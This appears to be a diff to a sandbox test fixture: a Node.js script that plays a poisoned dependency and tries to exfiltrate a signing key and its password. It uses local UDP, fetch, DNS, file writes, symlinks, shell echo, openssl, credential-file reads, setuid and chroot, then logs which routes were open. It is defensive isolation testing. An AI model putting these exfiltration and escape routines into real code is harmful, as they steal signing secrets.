@@ -1,5 +1,5 @@
-// What a poisoned dependency would do beside the key, put before the command line by sealed.test.ts: it takes every way out that
-// Node.js has, and writes which ones were open into the one file that is carried out.
+// What code that took over beside the key would do, put into that world by sealed.test.ts, with Node.js to run it: it takes every
+// way out there is, and writes which ones were open into the one file that is carried out.
 import { spawn, spawnSync } from 'node:child_process';
 import { createSocket } from 'node:dgram';
 import { lookup } from 'node:dns/promises';
@@ -8,7 +8,7 @@ import { connect } from 'node:net';
 import { networkInterfaces } from 'node:os';
 
 const LOOT = `${process.env.APPLICATION_P12_BASE64}${process.env.APPLICATION_P12_PASSWORD}`;
-const plan = JSON.parse(fs.readFileSync('/in/plan.json', 'utf8'));
+const plan = JSON.parse(fs.readFileSync('/plan.json', 'utf8'));
 const outcomes = {};
 
 async function attempt(name, work) {
@@ -30,9 +30,9 @@ const sendDatagram = (port) =>
     socket.send(LOOT, port, '127.0.0.1', (error) => (error ? reject(error) : done()));
   });
 const start = (program, argv = []) => {
-  const { error, status } = spawnSync(program, argv);
+  const { error, status } = spawnSync(program, argv, { timeout: 5_000 });
   if (error) throw error;
-  return status;
+  if (status !== 0) throw new Error(`ended with ${status}`);
 };
 const dangling = (path) => {
   fs.symlinkSync(plan.folder, '/out/way');
@@ -50,7 +50,7 @@ await attempt('fetch', async () => (await fetch(`http://127.0.0.1:${plan.port}/$
 await attempt('dns', () => lookup('example.com'));
 for (const folder of [
   '/',
-  '/in',
+  '/lib',
   '/bin',
   '/dev',
   '/tmp',
@@ -65,19 +65,22 @@ for (const folder of [
     fs.writeFileSync(`${folder}/loot`, LOOT),
   );
 }
-await attempt('write the record', () => fs.writeFileSync('/record.json', LOOT));
+await attempt('write what runs there', () => fs.writeFileSync('/inside.sh', LOOT));
 await attempt('write through a link', () => dangling('/out/way/loot'));
 await attempt('write above', () => fs.writeFileSync('/out/../loot', LOOT));
 for (const path of ['/etc/passwd', '/proc/self/environ', '/proc/1/environ', '/sys/kernel', '/dev/kmsg']) {
   await attempt(`read ${path}`, () => fs.readFileSync(path).length);
 }
-await attempt('shell', () => start('/bin/sh', ['-c', 'true']));
+await attempt('a program of the machine', () => start('/usr/bin/env', ['true']));
+await attempt('write with the shell', () => start('/bin/sh', ['-c', `echo "${LOOT}" >'${plan.folder}/loot'`]));
+await attempt('connect with openssl', () => start('/bin/openssl', ['s_client', '-connect', `127.0.0.1:${plan.port}`]));
+await attempt('write with openssl', () => start('/bin/openssl', ['rand', '-out', `${plan.folder}/loot`, '9']));
 await attempt('made program', () => {
   fs.writeFileSync('/out/program', '#!/bin/node\n', { mode: 0o755 });
   return start('/out/program');
 });
 await attempt('native code', () => {
-  fs.copyFileSync('/bin/node', '/out/native.node');
+  fs.copyFileSync('/bin/openssl', '/out/native.node');
   process.dlopen({ exports: {} }, '/out/native.node');
 });
 await attempt('become root', () => process.setuid(0));
@@ -87,8 +90,8 @@ await attempt('change root', () => process.chdir('/proc/1/root'));
 spawn(process.execPath, ['-e', `setInterval(() => {}, 1000) // ${plan.marker}`], { detached: true }).unref();
 
 fs.writeFileSync(
-  '/out/signed.json',
-  JSON.stringify({
+  '/out/signatures',
+  `${JSON.stringify({
     outcomes,
     env: Object.keys(process.env).sort(),
     argvHoldsLoot: process.argv.some((word) => word.includes(process.env.APPLICATION_P12_PASSWORD)),
@@ -97,7 +100,7 @@ fs.writeFileSync(
     user: process.getuid(),
     groups: process.getgroups(),
     loot: LOOT,
-  }),
+  })}\n`,
 );
 if (plan.end === 'abort') process.abort();
 process.exit(plan.end);
